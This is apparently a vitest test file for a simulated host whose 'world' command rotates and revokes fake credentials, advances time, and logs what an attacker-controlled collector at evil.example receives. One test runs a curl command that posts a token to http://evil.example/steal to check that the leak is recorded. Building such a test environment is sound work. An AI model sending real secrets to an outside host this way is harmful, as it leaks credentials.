import { describe, expect, test } from "vitest";
import { createHost } from "../../../../src/engine/host/host.ts";
import { workspaceOf } from "../../../../src/engine/source/workspace.ts";

const OLD = "kT4vQz8mWx2RbL6n";

const host = () =>
  createHost({
    folder: "shop",
    files: workspaceOf({ "db_password.txt": `${OLD}\n`, ".env": `A=1\nPW=${OLD}\nB=2\n` }),
    credentials: new Map([
      ["db_password", OLD],
      ["npm_token", "npm_Zk3vT9qLw2Xc8RbN"],
      ["spare", "spare_Zk3vT9qLw2Xc"],
    ]),
    credentialFiles: new Map([["db_password", ["db_password.txt", ".env"]]]),
    services: {
      orders: { kind: "postgres", address: "orders.acme.test:5432", accounts: { shop: "db_password" } },
      registry: {
        kind: "npm-registry",
        address: "registry.acme.test:4873",
        accounts: { ci: { credential: "npm_token", expires_after_minutes: 90 } },
      },
      evil: { kind: "collector", address: "evil.example:80" },
    },
  });

describe("world rotate", () => {
  test("puts the new value where the old one stood", async () => {
    const { run, world } = await host();
    const { stdout } = await run(
      "chmod 640 db_password.txt; world rotate db_password newPassword42; stat -c %a db_password.txt; cat db_password.txt .env",
    );
    expect(stdout).toBe(
      "db_password has a new value.\norders takes it, and the old one no more.\n" +
        "It is in /work/shop/db_password.txt and /work/shop/.env.\n640\nnewPassword42\nA=1\nPW=newPassword42\nB=2\n",
    );
    expect(world.accepts("orders", OLD)).toBe(false);
    expect(world.accepts("orders", "newPassword42")).toBe(true);
  });

  test("prints a value that is put nowhere, and says whose shell has the old one", async () => {
    const { run } = await host();
    const { stdout } = await run("export TOKEN=npm_Zk3vT9qLw2Xc8RbN; world rotate npm_token npm_abcdefgh");
    expect(stdout).toContain(
      "It is npm_abcdefgh\nYour shell still has the old one: export TOKEN=npm_abcdefgh\n",
    );
  });

  test("a file that is mounted into a container shows the new value there", async () => {
    const { run } = await host();
    await run("docker run -d --name api -v $PWD/db_password.txt:/p:ro busybox sleep infinity");
    expect(
      (await run("world rotate db_password newPassword42 > /dev/null; docker exec api cat /p")).stdout,
    ).toBe("newPassword42\n");
  });
});

describe("world status", () => {
  test("shows state, age, what is left and who used what last", async () => {
    const { run } = await host();
    await run(
      "curl -s -H 'Authorization: Bearer npm_Zk3vT9qLw2Xc8RbN' http://registry.acme.test:4873/-/whoami",
    );
    await run(
      "docker run --name look tools curl -s -H 'Authorization: Bearer wrong' http://registry.acme.test:4873/-/whoami",
    );
    await run("world revoke db_password; world advance 30m");
    const { stdout } = await run("world status");
    const lines = stdout.split("\n").map((line) => line.replace(/ {2,}/g, " | "));
    expect(lines[1]).toBe("SERVICE | CREDENTIAL | STATE | AGE | LEFT | LAST USED");
    expect(lines[2]).toBe("orders | db_password | revoked | 30m | for ever | never");
    expect(lines[3]).toMatch(/^registry \| npm_token \| active \| 30m \| 59m \| workstation, 30m ago$/);
    expect(lines[4]).toBe("registry refused a value last from look, 30m ago");
    expect(lines[5]).toBe("evil is an attacker's, and has received 0: world inbox evil");
    await run("world advance 1h");
    expect((await run("world status")).stdout).toMatch(/registry +npm_token +expired +1h +0s/);
  });
});

describe("world advance", () => {
  test("lets containers go on, the exact moment for those who seldom wake", async () => {
    const { run } = await host();
    await run("docker run -d --name clock busybox sh -c 'date +%s; sleep 36000; date +%s'");
    const before = (await run("date +%s")).stdout;
    expect((await run("world advance 7d")).exit).toBe(0);
    const [started, ended] = (await run("docker logs clock")).stdout.trim().split("\n").map(Number);
    expect(ended! - started!).toBe(36000);
    expect(Number((await run("date +%s")).stdout) - Number(before)).toBeGreaterThanOrEqual(7 * 86400);
  });

  test("a busy container does not make a week endless", async () => {
    const { run } = await host();
    await run("docker run -d --name busy busybox sh -c 'while true; do echo tick; sleep 1; done'");
    expect(await run("world advance 7d")).toMatchObject({ exit: 0, stderr: "" });
    expect((await run("docker ps -q | wc -l")).stdout).toBe("1\n");
  });
});

describe("world inbox", () => {
  test("shows what an attacker was sent", async () => {
    const { run } = await host();
    expect((await run("world inbox evil")).stdout).toBe("evil has received nothing.\n");
    await run("curl -s -d token=abc http://evil.example/steal");
    const { stdout } = await run("world inbox");
    expect(stdout).toContain("POST http://evil.example/steal");
    expect(stdout).toContain("token=abc");
  });
});

test.each([
  ["world rotate", "which credential? There are db_password, npm_token and spare"],
  ["world rotate pw", "no credential is called pw; there are db_password, npm_token and spare"],
  ["world rotate spare npm_Zk3vT9qLw2Xc8RbN", "npm_token has this value already"],
  ["world rotate spare short", "a value has at least 8 characters"],
  ["world revoke spare", "no service outside takes spare; there is nothing to revoke"],
  ["world advance", "how long? write 30s, 15m, 24h or 7d"],
  ["world advance soon", "soon is no duration: write 30s, 15m, 24h or 7d"],
  ["world advance -1h", "time does not run backwards"],
  ["world advance 400d", "a year is the longest"],
  ["world inbox orders", "no attacker has orders; there are evil"],
  [
    "world spin",
    "there is no command spin; there are status, rotate, revoke, advance, inbox, push, log, actions, repoint and help",
  ],
])("%s is refused in words", async (line, message) => {
  const { run } = await host();
  expect(await run(line)).toMatchObject({ exit: 1, stdout: "", stderr: `world: ${message}\n` });
});

test("no image has the command", async () => {
  const { run } = await host();
  expect((await run("docker run --rm tools world status")).exit).toBe(127);
});
